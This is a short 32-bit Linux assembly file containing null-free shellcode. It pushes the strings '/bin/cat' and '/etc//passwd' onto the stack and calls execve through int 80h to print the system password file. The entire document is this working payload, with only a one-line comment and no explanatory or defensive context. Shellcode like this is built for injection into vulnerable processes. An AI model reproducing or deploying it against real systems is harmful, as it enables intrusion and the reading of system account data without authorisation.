; Linux, 32 bit: execve("/bin/cat", "/etc/passwd"), every string pushed.
bits 32
        xor eax, eax
        push eax
        push dword '/cat'
        push dword '/bin'
        mov ebx, esp
        push eax
        push dword 'sswd'
        push dword '//pa'
        push dword '/etc'
        mov ecx, esp
        push eax
        push ecx
        push ebx
        mov ecx, esp
        xor edx, edx
        mov al, 11
        int 80h
